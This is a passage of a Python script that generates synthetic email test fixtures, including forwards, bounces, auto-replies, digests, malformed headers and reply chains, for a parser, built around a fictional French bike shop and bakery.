                    b64(pdf("Facture achat velo enfant 2021")),
                ),
            ],
        ),
        extra=[("X-Mailer", "Apple Mail (2.3774.400.31)")],
        text_contains="Le vélo de ma fille est trop petit",
    )
    simple_tnef()


def simple_tnef() -> None:
    bnd = boundary("mix")
    tnef = b"\x78\x9f\x3e\x22" + bytes(random.Random(5).randrange(256) for _ in range(600))
    mail(
        "tnef-winmail.eml",
        "tnef",
        frm=("Thierry Vasseur", "t.vasseur@example-assur.fr"),
        to=US,
        subj="Attestation d'assurance",
        when=date(2024, 3, 28, 15, 12),
        mid="AM6PR04MB5041E1F2A3B4C5D6E7F8A9B0C1D2@AM6PR04MB5041.eurprd04.prod.outlook.com",
        content=[("Content-Type", f'multipart/mixed; boundary="{bnd}"')],
        body=multipart(
            bnd,
            [
                text_part(
                    "Bonjour,\n\nCi-joint l'attestation d'assurance responsabilité civile "
                    "pour la location de vélos.\n\nThierry Vasseur\n",
                    "iso-8859-1",
                    "quoted-printable",
                ),
                part(
                    [
                        ("Content-Type", 'application/ms-tnef; name="winmail.dat"'),
                        ("Content-Disposition", 'attachment; filename="winmail.dat"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(tnef),
                ),
            ],
        ),
        extra=[("X-MS-TNEF-Correlator", "<AM6PR04MB5041E1F2A3B4C5D6@eurprd04>")],
        text_contains="attestation d'assurance responsabilité civile",
        notes="Outlook winmail.dat (TNEF) attachment (fake content).",
    )


# --- 3. forwards, auto-replies, bounces, lists ----------------------------------------------------


def forwards() -> None:
    inner = (
        header_block(
            [
                ("From", addr("Raymond Petitjean", "raymond.petitjean@example.fr")),
                ("To", US),
                ("Subject", subject("Réclamation : baguette pas cuite")),
                ("Date", date(2024, 3, 29, 7, 45)),
                ("Message-ID", "<rp.20240329074500@example.fr>"),
                ("MIME-Version", "1.0"),
                ("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Transfer-Encoding", "8bit"),
            ]
        )
        + b"\r\n"
        + enc(
            "Bonjour,\n\nLa baguette tradition de ce matin était à peine cuite. "
            "Je suis déçu.\n\nR. Petitjean\n"
        )
    )
    bnd = boundary("mix")
    mail(
        "forward-attached.eml",
        "forward-attached",
        frm=("Lucie Bernard", "lucie@velopain.example"),
        to=SUPPORT,
        subj="Fwd: Réclamation : baguette pas cuite",
        when=date(2024, 3, 29, 9, 2),
        mid="lucie.fwd.20240329090211@velopain.example",
        content=[("Content-Type", f'multipart/mixed; boundary="{bnd}"')],
        body=multipart(
            bnd,
            [
                text_part(
                    "Pour le support : voir ci-dessous la réclamation de M. Petitjean,\n"
                    "peux-tu lui répondre ? Je lui offre une baguette demain.\n\nLucie\n",
                    "utf-8",
                    "8bit",
                ),
                part(
                    [
                        ("Content-Type", 'message/rfc822; name="reclamation.eml"'),
                        ("Content-Disposition", "attachment"),
                    ],
                    inner,
                ),
            ],
        ),
        host="mail.velopain.example",
        outbound=False,
        subject_contains="Réclamation : baguette pas cuite",
        text_contains="voir ci-dessous la réclamation de M. Petitjean",
        notes="Colleague forwards a customer's message as message/rfc822 (inner Message-ID "
        "rp.20240329074500@example.fr, not a separate file).",
    )
    simple(
        "forward-inline.eml",
        "forward-inline",
        """Regarde ce qu'on a reçu, on devrait leur proposer un stand.

---------- Forwarded message ---------
De : Comité des fêtes <comite.fetes@example.org>
Date: ven. 29 mars 2024 à 11:03
Subject: Fête du vélo – appel à participants
To: <lucie.bernard@example.com>


Bonjour,

La Fête du vélo aura lieu le 2 juin. Les commerçants qui souhaitent tenir un
stand peuvent s'inscrire avant le 15 mai.

Le comité
""",
        frm=("Lucie Bernard", "lucie.bernard@example.com"),
        to=US,
        subj="Fwd: Fête du vélo – appel à participants",
        when=date(2024, 3, 29, 12, 30),
        mid="CAOe1Fwd9xLk2mNp3qRs4tUv5w@mail.gmail.com",
        host="mail-ej1-f45.google.com",
        subject_contains="Fête du vélo",
        text_contains="La Fête du vélo aura lieu le 2 juin",
    )


def autoreplies_and_bounces() -> None:
    order_id = "4b5c6d7e.farine.20240402@velopain.example"
    simple(
        "farine-commande.eml",
        "outbound",
        """Bonjour Mme Le Bihan,

Pourriez-vous nous livrer 200 kg de farine T80 et 50 kg de seigle la semaine
prochaine, comme d'habitude le mardi matin ?

Bien cordialement,
Marc
"""
        + SIGNATURE,
        flowed=True,
        frm=ME,
        to=addr("Moulin de la Vallée", "commandes@moulin-vallee.example"),
        subj="Commande farine semaine 15",
        when=date(2024, 4, 2, 16, 5, PARIS_SUMMER),
        mid=order_id,
        thread="farine",
        extra=OUT_EXTRA,
        text_contains="200 kg de farine T80 et 50 kg de seigle",
    )
    simple(
        "autoreply-absence.eml",
        "auto-reply",
        """Bonjour,

Je suis absente du bureau jusqu'au lundi 8 avril inclus.
Pour toute commande urgente, merci de contacter Jean au 02 99 11 22 33.

Cordialement,
Anne Le Bihan
""",
        charset="iso-8859-1",
        cte="quoted-printable",
        frm=("Anne Le Bihan", "commandes@moulin-vallee.example"),
        to=US,
        subj="Absence du bureau : Commande farine semaine 15",
        when=date(2024, 4, 2, 16, 5, PARIS_SUMMER),
        mid="autoreply.20240402160533.anne@moulin-vallee.example",
        irt=order_id,
        refs=[order_id],
        thread="farine",
        extra=[
            ("Auto-Submitted", "auto-replied"),
            ("X-Auto-Response-Suppress", "All"),
            ("Precedence", "auto_reply"),
        ],
        subject_contains="Absence du bureau",
        text_contains="Je suis absente du bureau jusqu'au lundi 8 avril",
    )
    simple(
        "autoreply-ooo-en.eml",
        "auto-reply",
        """I am out of the office until April 15th with limited access to e-mail.
For urgent matters please contact sales@example-wholesale.com.
""",
        charset="us-ascii",
        cte="7bit",
        frm=("Peter Jones", "peter.jones@example-wholesale.com"),
        to=US,
        subj="Automatic reply: Order of bike lights",
        when=date(2024, 4, 3, 9, 0, timezone(timedelta(hours=1))),
        mid="ooo-1712131200-4411@example-wholesale.com",
        irt="order.lights.20240403@velopain.example",
        extra=[
            ("Auto-Submitted", "auto-replied"),
            ("X-Autoreply", "yes"),
            ("X-Auto-Response-Suppress", "All"),
        ],
        text_contains="I am out of the office until April 15th",
        notes="In-Reply-To points to a message that is not in the corpus.",
    )

    devis_id = "c0ffee12.devis.20240404@velopain.example"
    simple(
        "devis-chloe.eml",
        "outbound",
        """Bonjour Chloé,

Voici le devis pour la révision complète de votre vélo : 89 €, pièces
d'usure en sus. Nous pouvons le prendre dès lundi.

Bonne journée,
Marc
"""
        + SIGNATURE,
        flowed=True,
        frm=ME,
        to=addr("Chloé Petit", "chloe.petit@gmial.com"),
        subj="Devis révision vélo",
        when=date(2024, 4, 4, 10, 12, PARIS_SUMMER),
        mid=devis_id,
        thread="devis-chloe",
        extra=OUT_EXTRA,
        text_contains="la révision complète de votre vélo : 89 €",
        notes="Sent to a mistyped domain (gmial.com): see bounce-gmail.eml.",
    )
    b_rep = boundary("rep")
    original = header_block(
        [
            ("From", addr(US_NAME, US)),
            ("To", addr("Chloé Petit", "chloe.petit@gmial.com")),
            ("Subject", subject("Devis révision vélo")),
            ("Date", date(2024, 4, 4, 10, 12, PARIS_SUMMER)),
            ("Message-ID", f"<{devis_id}>"),
        ]
    )
    mail(
        "bounce-gmail.eml",
        "bounce",
        frm=("Mail Delivery Subsystem", "mailer-daemon@googlemail.com"),
        to=US,
        subj="Delivery Status Notification (Failure)",
        when=date(2024, 4, 4, 10, 12, PARIS_SUMMER),
        mid="660e6f1a.050a0220.bounce.1b2c@mx.google.com",
        irt=devis_id,
        refs=[devis_id],
        thread="devis-chloe",
        content=[
            (
                "Content-Type",
                f'multipart/report; boundary="{b_rep}"; report-type=delivery-status',
            )
        ],
        body=multipart(
            b_rep,
            [
                text_part(
                    "\n** Address not found **\n\nYour message wasn't delivered to "
                    "chloe.petit@gmial.com because the domain gmial.com couldn't be found. "
                    "Check for typos or unnecessary spaces and try again.\n",
                    "UTF-8",
                    "quoted-printable",
                ),
                part(
                    [("Content-Type", "message/delivery-status")],
                    enc(
                        "Reporting-MTA: dns; googlemail.com\n"
                        "Arrival-Date: Thu, 04 Apr 2024 01:12:44 -0700 (PDT)\n\n"
                        "Final-Recipient: rfc822; chloe.petit@gmial.com\n"
                        "Action: failed\nStatus: 5.1.2\n"
                        "Diagnostic-Code: smtp; The email account that you tried to reach "
                        "does not exist.\n"
                        "Last-Attempt-Date: Thu, 04 Apr 2024 01:12:45 -0700 (PDT)\n"
                    ),
                ),
                part([("Content-Type", "message/rfc822")], original + b"\r\n" + b"[...]\r\n"),
            ],
        ),
        host="mail-sor-f69.google.com",
        extra=[("Auto-Submitted", "auto-replied")],
        text_contains="Your message wasn't delivered to chloe.petit@gmial.com",
        notes="Gmail-style DSN; it has In-Reply-To/References to the bounced message.",
    )
    b_rep = boundary("rep")
    mail(
        "bounce-postfix.eml",
        "bounce",
        frm=("Mail Delivery System", "MAILER-DAEMON@mx.velopain.example"),
        to=US,
        subj="Undelivered Mail Returned to Sender",
        when=date(2024, 4, 5, 11, 40, PARIS_SUMMER),
        mid="20240405094012.8C1F01A0042@mx.velopain.example",
        content=[
            (
                "Content-Type",
                f'multipart/report; report-type=delivery-status;\r\n\tboundary="{b_rep}"',
            )
        ],
        body=multipart(
            b_rep,
            [
                part(
                    [
                        ("Content-Description", "Notification"),
                        ("Content-Type", "text/plain; charset=us-ascii"),
                    ],
                    enc(
                        "This is the mail system at host mx.velopain.example.\n\n"
                        "I'm sorry to have to inform you that your message could not\n"
                        "be delivered to one or more recipients.\n\n"
                        "<jean.martin@example-old.fr>: host mx.example-old.fr[198.51.100.7] said:\n"
                        "    550 5.1.1 <jean.martin@example-old.fr>: Recipient address rejected:\n"
                        "    User unknown in virtual mailbox table\n"
                    ),
                ),
                part(
                    [
                        ("Content-Description", "Delivery report"),
                        ("Content-Type", "message/delivery-status"),
                    ],
                    enc(
                        "Reporting-MTA: dns; mx.velopain.example\n"
                        "X-Postfix-Queue-ID: 8C1F01A0042\n\n"
                        "Final-Recipient: rfc822; jean.martin@example-old.fr\n"
                        "Action: failed\nStatus: 5.1.1\n"
                        "Diagnostic-Code: smtp; 550 5.1.1 User unknown\n"
                    ),
                ),
                part(
                    [
                        ("Content-Description", "Undelivered Message Headers"),
                        ("Content-Type", "text/rfc822-headers"),
                    ],
                    header_block(
                        [
                            ("From", addr(US_NAME, US)),
                            ("To", "jean.martin@example-old.fr"),
                            ("Subject", subject("Votre commande est prête")),
                            ("Message-ID", "<prete.20240405@velopain.example>"),
                        ]
                    ),
                ),
            ],
        ),
        host="localhost",
        extra=[("Auto-Submitted", "auto-replied")],
        text_contains="I'm sorry to have to inform you that your message could not",
        notes="Postfix DSN: no In-Reply-To/References; original headers only "
        "(bounced Message-ID prete.20240405@velopain.example is not in the corpus).",
    )

    devis2 = "d3715e0a.devis-atelier.20240408@velopain.example"
    bnd = boundary("mix")
    mail(
        "devis-entreprise.eml",
        "outbound",
        frm=ME,
        to=addr("Société Kerhervé", "achats@kerherve.example"),
        subj="Devis flotte de vélos de service",
        when=date(2024, 4, 8, 14, 0, PARIS_SUMMER),
        mid=devis2,
        thread="devis-entreprise",
        content=[("Content-Type", f'multipart/mixed; boundary="{bnd}"')],
        body=multipart(
            bnd,
            [
                text_part(
                    "Bonjour,\n\nVous trouverez ci-joint notre devis pour l'entretien annuel "
                    "de votre flotte de 15 vélos de service.\n\nCordialement,\nMarc\n" + SIGNATURE,
                ),
                part(
                    [
                        ("Content-Type", 'application/pdf; name="devis-2024-017.pdf"'),
                        ("Content-Disposition", 'attachment; filename="devis-2024-017.pdf"'),
                        ("Content-Transfer-Encoding", "base64"),
                    ],
                    b64(pdf("Devis 2024-017 - entretien flotte")),
                ),
            ],
        ),
        extra=[
            ("Bcc", "compta@velopain.example"),
            ("Disposition-Notification-To", US),
            *OUT_EXTRA,
        ],
        text_contains="l'entretien annuel de votre flotte de 15 vélos de service",
        notes="Copy from the Sent folder: keeps its Bcc header; asks for a read receipt.",
    )
    b_rep = boundary("mdn")
    mail(
        "read-receipt.eml",
        "read-receipt",
        frm=("Service Achats Kerhervé", "achats@kerherve.example"),
        to=US,
        subj="Lu : Devis flotte de vélos de service",
        when=date(2024, 4, 9, 8, 20, PARIS_SUMMER),
        mid="mdn.4e1f.20240409082033@kerherve.example",
        irt=devis2,
        refs=[devis2],
        thread="devis-entreprise",
        content=[
            (
                "Content-Type",
                f'multipart/report; report-type=disposition-notification; boundary="{b_rep}"',
            )
        ],
        body=multipart(
            b_rep,
            [
                text_part(
                    "Votre message a été lu le 09/04/2024 à 08:20.\n", "utf-8", "quoted-printable"
                ),
                part(
                    [("Content-Type", "message/disposition-notification")],
                    enc(
                        "Reporting-UA: kerherve.example; Microsoft Outlook 16.0\n"
                        f"Final-Recipient: rfc822;achats@kerherve.example\n"
                        f"Original-Message-ID: <{devis2}>\n"
                        "Disposition: manual-action/MDN-sent-manually; displayed\n"
                    ),
                ),
            ],
        ),
        text_contains="Votre message a été lu le 09/04/2024",
    )


def lists() -> None:
    b_dig = boundary("dig")
    posts = [
        ("Alain", "alain@example.org", "Sortie vélo dimanche", "Départ 9 h place Sainte-Anne."),
        (
            "Bérénice",
            "berenice@example.org",
            "Re: Sortie vélo dimanche",
            "Je viens avec mon tandem !",
        ),
        ("Cyril", "cyril@example.org", "Atelier crevaison", "Qui a une pompe à prêter ?"),
    ]
    digest_parts = [
        text_part(
            "Sujets du jour :\n\n  1. Sortie vélo dimanche (Alain)\n"
            "  2. Re: Sortie vélo dimanche (Bérénice)\n  3. Atelier crevaison (Cyril)\n",
            "utf-8",
            "quoted-printable",
        )
    ]
    inner = b""
    for n, (name, who, subj, text) in enumerate(posts, 1):
        inner = (
            header_block(
                [
                    ("From", addr(name, who)),
                    ("Subject", subject(subj)),
                    ("Date", date(2024, 4, 10, 8 + n, 5)),
                    ("Message-ID", f"<post{n}.20240410@lists.example.org>"),
                    ("Content-Type", "text/plain; charset=utf-8"),
                    ("Content-Transfer-Encoding", "8bit"),
                ]
            )
            + b"\r\n"
            + enc(text + "\n")
        )
        digest_parts.append(b"\r\n" + inner)  # default type in a digest: message/rfc822
    b_mix = boundary("mix")
    mail(
        "digest.eml",
        "digest",
        frm=(None, "cyclistes-quartier-request@lists.example.org"),
        to="cyclistes-quartier@lists.example.org",
        subj="Cyclistes-quartier Digest, Vol 12, Issue 4",
        when=date(2024, 4, 10, 12, 0, PARIS_SUMMER),
        mid="mailman.12.1712743200.4242.cyclistes-quartier@lists.example.org",
        content=[("Content-Type", f'multipart/mixed; boundary="{b_mix}"')],
        body=multipart(
            b_mix,
            [
                text_part(
                    "Envoyez vos messages à cyclistes-quartier@lists.example.org\n",
                    "utf-8",
                    "quoted-printable",
                ),
                part(
                    [("Content-Type", f'multipart/digest; boundary="{b_dig}"')],
                    multipart(b_dig, digest_parts),
                ),
            ],
        ),
        extra=[
            ("List-Id", "Cyclistes du quartier <cyclistes-quartier.lists.example.org>"),
            (
                "List-Unsubscribe",
                "<mailto:cyclistes-quartier-request@lists.example.org?subject=unsubscribe>",
            ),
            ("Precedence", "list"),
        ],
        host="lists.example.org",
        text_contains="Envoyez vos messages à cyclistes-quartier@lists.example.org",
        notes="multipart/mixed > multipart/digest of three message/rfc822 parts (implicit type).",
    )
    b_alt = boundary("alt")
    mail(
        "mailing-list.eml",
        "mailing-list",
        frm=("Les Commerçants du Centre", "infos@commercants-centre.example"),
        to="membres@commercants-centre.example",
        subj="[Commerçants] Braderie du 1er mai",
        when=date(2024, 4, 11, 18, 0, PARIS_SUMMER),
        mid="list.post.88120@commercants-centre.example",
        content=[("Content-Type", f'multipart/alternative; boundary="{b_alt}"')],
        body=multipart(
            b_alt,
            [
                text_part(
                    "Chers membres,\n\nLa braderie du 1er mai aura lieu rue Saint-Georges.\n"
                    "Inscription des stands avant le 25 avril.\n",
                    "utf-8",
                    "quoted-printable",
                ),
                text_part(
                    "<p>Chers membres,</p><p>La braderie du 1er mai aura lieu rue "
                    "Saint-Georges.</p><p>Inscription des stands avant le 25 avril.</p>\n",
                    "utf-8",
                    "quoted-printable",
                    "html",
                ),
            ],
        ),
        extra=[
            ("Sender", "commercants-bounces@commercants-centre.example"),
            ("List-Id", "<commercants.commercants-centre.example>"),
            ("List-Post", "<mailto:membres@commercants-centre.example>"),
            (
                "List-Unsubscribe",
                "<https://commercants-centre.example/u/velopain>,\r\n"
                " <mailto:unsubscribe@commercants-centre.example>",
            ),
            ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
            ("Precedence", "list"),
        ],
        subject_contains="Braderie du 1er mai",
        text_contains="La braderie du 1er mai aura lieu rue Saint-Georges",
        notes="Sent to the list address, not to us (we are a member).",
    )


# --- 4. headers -----------------------------------------------------------------------------------


def headers() -> None:
    first, second = "Réparation du vélo électrique ", "— batterie fatiguée 🔋"
    folded = (
        f"=?UTF-8?B?{base64.b64encode(first.encode()).decode()}?=\r\n =?UTF-8?q?{q_word(second)}?="
    )
    mail(
        "encoded-words.eml",
        "encoded-word-headers",
        frm=(None, "francoise.lebrun@example.fr"),
        to=f"=?iso-8859-1?Q?V=E9lo_&_Pain?= <{US}>",
        subj=None,
        when=date(2024, 4, 12, 10, 10, PARIS_SUMMER),
        mid="ew.20240412101011.5511@example.fr",
        content=[
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc(
            "Bonjour,\n\nLa batterie de mon vélo électrique ne tient plus que 10 km.\n"
            "Faut-il la remplacer ?\n\nFrançoise\n"
        ),
        extra=[("Subject", folded)],
        subject_contains="Réparation du vélo électrique — batterie fatiguée 🔋",
        text_contains="La batterie de mon vélo électrique ne tient plus que 10 km",
        notes="UTF-8 B words folded over two lines; To display name as ISO-8859-1 Q word.",
    )
    # From with an encoded display name: fix the From line
    e = ENTRIES[-1]
    e.raw = e.raw.replace(
        b"From: francoise.lebrun@example.fr",
        b"From: =?iso-8859-1?Q?Fran=E7oise_Lebrun?= <francoise.lebrun@example.fr>",
    )
    broken = (
        "=?UTF-8?B?Q29tbWFuZGUgdXJnZW50ZQ==?= =?UTF-8?B?!!pas du base64!!?= "
        "=?x-unknown?Q?caf=E9?= =?UTF-8?Q?pour_demain_sans_fin"
    )
    mail(
        "broken-encoded-words.eml",
        "broken-encoded-word",
        frm=(None, "julien.perrin@example.com"),
        to=US,
        subj=None,
        when=date(2024, 4, 12, 11, 11, PARIS_SUMMER),
        mid="bew.20240412111100@example.com",
        content=[
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc("Bonjour,\n\nIl me faudrait 30 croissants pour demain 7 h, c'est possible ?\n"),
        extra=[("Subject", broken)],
        subject_contains="Commande urgente",
        text_contains="Il me faudrait 30 croissants pour demain 7 h",
        notes="Subject: one good B word, one with invalid base64, one with an unknown charset, "
        "one never closed (no '?='); From display name is an encoded-word inside quotes "
        "with latin-1 bytes labelled UTF-8.",
    )
    e = ENTRIES[-1]
    e.raw = e.raw.replace(
        b"From: julien.perrin@example.com",
        b'From: "=?UTF-8?Q?J=E9r=E9my_Perrin?=" <julien.perrin@example.com>',
    )
    mail(
        "8bit-headers-utf8.eml",
        "8bit-headers",
        frm=(None, "chloe.durand@example.fr"),
        to=US,
        subj=None,
        when=date(2024, 4, 13, 9, 30, PARIS_SUMMER),
        mid="8bit.utf8.20240413093000@example.fr",
        content=[
            ("Content-Type", "text/plain; charset=utf-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc("Bonjour,\n\nLe dérailleur arrière saute sur les deux petits pignons.\n"),
        extra=[("Subject", "Réparation du dérailleur".encode())],
        subject_contains="Réparation du dérailleur",
        text_contains="Le dérailleur arrière saute",
        notes="Raw UTF-8 bytes in Subject and in the From display name (no encoded-words).",
    )
    e = ENTRIES[-1]
    e.raw = e.raw.replace(
        b"From: chloe.durand@example.fr", "From: Chloé Durand <chloe.durand@example.fr>".encode()
    )
    mail(
        "8bit-headers-latin1.eml",
        "8bit-headers",
        frm=(None, "rene.guillot@example.fr"),
        to=US,
        subj=None,
        when=date(2024, 3, 28, 17, 0),
        mid="8bit.latin1.20240328170000@example.fr",
        content=[
            ("Content-Type", "text/plain; charset=iso-8859-1"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
        body=enc("Bonjour,\n\nAvez-vous prévu des œufs en chocolat pour Pâques ?\n", "cp1252"),
        extra=[("Subject", "Chocolats de Pâques".encode("latin-1"))],
        subject_contains="Chocolats de Pâques",
        text_contains="pour Pâques ?",
        notes="Raw ISO-8859-1 bytes in Subject (not valid UTF-8). Body declared iso-8859-1 "
        "but contains cp1252 'œ' (0x9c): decoding as cp1252 is the usual remedy.",
    )
    simple(
        "missing-date.eml",
        "missing-date",
        "Bonjour,\n\nJe cherche une selle confortable pour un vélo de ville, vous avez ça ?\n",
        frm=("Odile Marchand", "odile.marchand@example.fr"),
        to=US,
        subj="Selle confortable",
        when=None,
        mid="nodate.7781@example.fr",
        text_contains="Je cherche une selle confortable",
        notes="No Date header (the Received header still has a date).",
    )
    simple(
        "bad-date.eml",
        "bad-date",
        "Bonjour,\n\nPouvez-vous garder deux brioches pour moi samedi ?\n",
        frm=("Eric Vidal", "eric.vidal@example.com"),
        to=US,
        subj="Brioches samedi",
        when="samedi prochain vers 10h",
        mid="baddate.20240413@example.com",
        text_contains="garder deux brioches pour moi samedi",
        notes="Unparseable Date header value.",
    )
    simple(
        "missing-message-id.eml",
        "missing-message-id",
        "Bonjour,\n\nLa boulangerie sera-t-elle ouverte le lundi de Pâques ?\n",
        frm=("Martine Colin", "martine.colin@example.fr"),
        to=US,
        subj="Ouverture lundi de Pâques",
        when=date(2024, 3, 30, 19, 3),
        mid=None,
        text_contains="ouverte le lundi de Pâques",
    )
    e = simple(
        "duplicate-message-id-same.eml",
        "duplicate-message-id",
        "Bonjour,\n\nJe voudrais un gâteau d'anniversaire pour 8 personnes, thème vélo.\n",
        frm=("Laurent Roy", "laurent.roy@example.org"),
        to=US,
        subj="Gâteau d'anniversaire",
        when=date(2024, 4, 14, 10, 0, PARIS_SUMMER),
        mid="dup.same.20240414@example.org",
        text_contains="gâteau d'anniversaire pour 8 personnes",
        notes="The same Message-ID header appears twice (identical values).",
    )
    e.raw = e.raw.replace(
        b"Message-ID: <dup.same.20240414@example.org>\r\n",
        b"Message-ID: <dup.same.20240414@example.org>\r\n" * 2,
    )
    e = simple(
        "duplicate-message-id-conflict.eml",
        "duplicate-message-id",
        "Bonjour,\n\nMon vélo est-il prêt ? Je l'ai déposé mardi.\n",
        frm=("Arnaud Meyer", "arnaud.meyer@example.com"),
        to=US,
        subj="Mon vélo est-il prêt ?",
        when=date(2024, 4, 14, 11, 0, PARIS_SUMMER),
        mid="dup.first.20240414@example.com",
        text_contains="Je l'ai déposé mardi",
        notes="Two different Message-ID headers: message_id is the FIRST one (what "
        "Message.get / msg['Message-ID'] return); the second is dup.second.20240414@example.com.",
    )
    e.raw = e.raw.replace(
        b"Message-ID: <dup.first.20240414@example.com>\r\n",
        b"Message-ID: <dup.first.20240414@example.com>\r\n"
        b"Message-ID: <dup.second.20240414@example.com>\r\n",
    )
    long_subject = (
        "Question sur la location longue durée d'un vélo cargo électrique pour livrer "
        "les commandes de notre épicerie solidaire dans le quartier de Maurepas, "
        "avec remorque, antivol, assurance, entretien mensuel, formation des "
        "bénévoles à la conduite et possibilité de rachat au bout de deux ans si "
        "tout se passe bien — et la toute fin du sujet"
    )
    simple(
        "long-subject.eml",
        "long-subject",
        "Bonjour,\n\nTout est dans l'objet, pardon pour sa longueur !\n\nMathilde, "
        "épicerie solidaire\n",
        frm=("Mathilde Noël", "mathilde@epicerie-solidaire.example"),
        to=US,
        subj=long_subject,
        when=date(2024, 4, 15, 9, 0, PARIS_SUMMER),
        mid="long.subject.20240415@epicerie-solidaire.example",
        subject_contains="et la toute fin du sujet",
        text_contains="Tout est dans l'objet, pardon pour sa longueur",
        notes=f"Subject of {len(long_subject)} characters, folded UTF-8 encoded-words.",
    )
    simple(
        "no-subject.eml",
        "no-subject",
        "coucou, c'est pour la commande de pain de mie de mardi, 3 grands svp\n",
        frm=(None, "manon.giraud@example.fr"),
        to=US,
        subj=None,
        when=date(2024, 4, 15, 22, 40, PARIS_SUMMER),
        mid="nosubj.20240415224000@example.fr",
        text_contains="la commande de pain de mie de mardi",
        notes="No Subject header at all.",
    )
    e = simple(
        "empty-subject.eml",
        "no-subject",
        "Bonjour, mon antivol est resté accroché à votre arceau, je passe le chercher.\n",
        frm=(None, "theo.renard@example.com"),
        to=US,
        subj=None,
        when=date(2024, 4, 16, 8, 5, PARIS_SUMMER),
        mid="emptysubj.20240416@example.com",
        text_contains="mon antivol est resté accroché à votre arceau",
        notes="Subject header present but empty.",
    )
    e.raw = e.raw.replace(b"Date:", b"Subject: \r\nDate:", 1)


# --- 5. conversations -----------------------------------------------------------------------------


def conversations() -> None:
    # A: complete chain of five, alternating customer / us.
    ids_a = [
        "CAGx5ZqP8mN1vB2cX3zL4kJ5hG6fD7s@mail.gmail.com",
        "e8a1f2c3.revision.20240417@velopain.example",
        "CAGx5ZqP9oR2wC3dY4aM5lK6iH7gE8t@mail.gmail.com",
        "f9b2a3d4.revision.20240418@velopain.example",
        "CAGx5ZqQ0pS3xD4eZ5bN6mL7jI8hF9u@mail.gmail.com",
    ]
    marie = ("Marie Dupont", "marie.dupont@example.fr")
    texts = [
        (
            marie,
            "Révision de mon vélo avant l'été",
            "Bonjour,\n\nJe voudrais faire réviser mon vélo hollandais avant l'été : freins, "
            "éclairage, pneus.\nQuand puis-je le déposer ?\n\nMarie Dupont\n",
            "faire réviser mon vélo hollandais avant l'été",
        ),
        (
            ME,
            "Re: Révision de mon vélo avant l'été",
            "Bonjour Madame Dupont,\n\nVous pouvez le déposer mardi matin, il sera prêt "
            "jeudi soir.\nLa révision complète coûte 89 €.\n\nMarc\n",
            "Vous pouvez le déposer mardi matin",
        ),
        (
            marie,
            "Re: Révision de mon vélo avant l'été",
            "Parfait, je le dépose mardi vers 9 h. Pouvez-vous aussi regarder la sonnette ?\n",
            "regarder la sonnette",
        ),
        (
            ME,
            "Re: Révision de mon vélo avant l'été",
            "C'est noté pour la sonnette, nous la changerons si besoin (6 €).\n\nMarc\n",
            "C'est noté pour la sonnette",
        ),
        (
            marie,
            "Re: Révision de mon vélo avant l'été",
            "Merci beaucoup, vélo récupéré, il roule comme neuf !\n",
            "vélo récupéré, il roule comme neuf",
        ),
    ]
    for n, (who, subj, text, needle) in enumerate(texts):
        quoted = ""
        if n:
            prev = texts[n - 1][2].strip().splitlines()
            day = 17 + (n - 1) // 2
            quoted = (
                f"\n\nLe {day}/04/2024, {texts[n - 1][0][0]} a écrit :\n"
                + "\n".join("> " + line if line else ">" for line in prev)
                + "\n"
            )
        simple(
            f"chain-revision-{n + 1}.eml",
            "reply-chain",
            text + quoted + (SIGNATURE if who == ME else ""),
            cte="quoted-printable" if who != ME else "8bit",
            flowed=who == ME,
            frm=who,
            to=US if who != ME else addr(*marie),
            subj=subj,
            when=date(2024, 4, 17 + n // 2, 9 + n, 10 + n, PARIS_SUMMER),
            mid=ids_a[n],
            irt=ids_a[n - 1] if n else None,
            refs=ids_a[:n],
            thread="revision-marie",
            host="mail-ed1-f52.google.com",
            extra=OUT_EXTRA if who == ME else [],
            subject_contains="Révision de mon vélo",
            text_contains=needle,
        )

    # B: chain whose third message is missing from the corpus.
    ids_b = [
        "tb.20240419.1@example.com",
        "a7c8d9e0.mariage.20240419@velopain.example",
        "tb.20240420.3@example.com",
        "b8d9e0f1.mariage.20240421@velopain.example",
    ]
    thomas = ("Thomas Bernard", "thomas.bernard@example.com")
    chain_b = [
        (
            0,
            thomas,
            "Pièce montée pour notre mariage",
            "Bonjour,\n\nNous nous marions le 15 juin : pourriez-vous réaliser une pièce "
            "montée de 80 choux ?\n\nThomas\n",
            "pièce montée de 80 choux",
        ),
        (
            1,
            ME,
            "Re: Pièce montée pour notre mariage",
            "Bonjour Thomas,\n\nAvec plaisir ! Nougatine ou caramel pour le décor ?\n\nMarc\n",
            "Nougatine ou caramel pour le décor",
        ),
        (
            3,
            ME,
            "Re: Pièce montée pour notre mariage",
            "Bonjour Thomas,\n\nVA pour le caramel. Livraison à la salle à 16 h le 15 juin.\n\n"
            "Marc\n",
            "Livraison à la salle à 16 h le 15 juin",
        ),
    ]
    for n, who, subj, text, needle in chain_b:
        simple(
            f"commande-mariage-{n + 1}.eml",
            "reply-chain-missing-middle",
            text + (SIGNATURE if who == ME else ""),
            flowed=who == ME,
            frm=who,
            to=US if who != ME else addr(*thomas),
            subj=subj,
            when=date(2024, 4, 19 + n, 14, 0, PARIS_SUMMER),
            mid=ids_b[n],
            irt=ids_b[n - 1] if n else None,
            refs=ids_b[:n],
            thread="mariage-thomas",
            extra=OUT_EXTRA if who == ME else [],
            subject_contains="Pièce montée",
            text_contains=needle,
            notes="The third message (tb.20240420.3@example.com) is not in the corpus."
            if n == 3
            else "",
        )

    # C: the last reply has only In-Reply-To.
    ids_c = [
        "BY5PR10MB4306AA11@BY5PR10MB4306.namprd10.prod.outlook.com",
        "c1d2e3f4.rental.20240422@velopain.example",
        "BY5PR10MB4306BB22@BY5PR10MB4306.namprd10.prod.outlook.com",
    ]
    emma = ("Emma Wilson", "emma.wilson@example.co.uk")
    chain_c = [
        (
            emma,
            "Bike rental for a family of four",
            "Hello,\n\nWe are a family of four (two kids, 8 and 11) and would like to rent bikes "
            "for three days in May.\nIs a child seat available too?\n\nBest,\nEmma\n",
            "rent bikes for three days in May",
            True,
        ),
        (
            ME,
            "Re: Bike rental for a family of four",
            "Hello Emma,\n\nYes: two adult bikes, two kids' bikes and a child seat are "
            "available from May 6th. 45 € per day for all four.\n\nMarc\n",
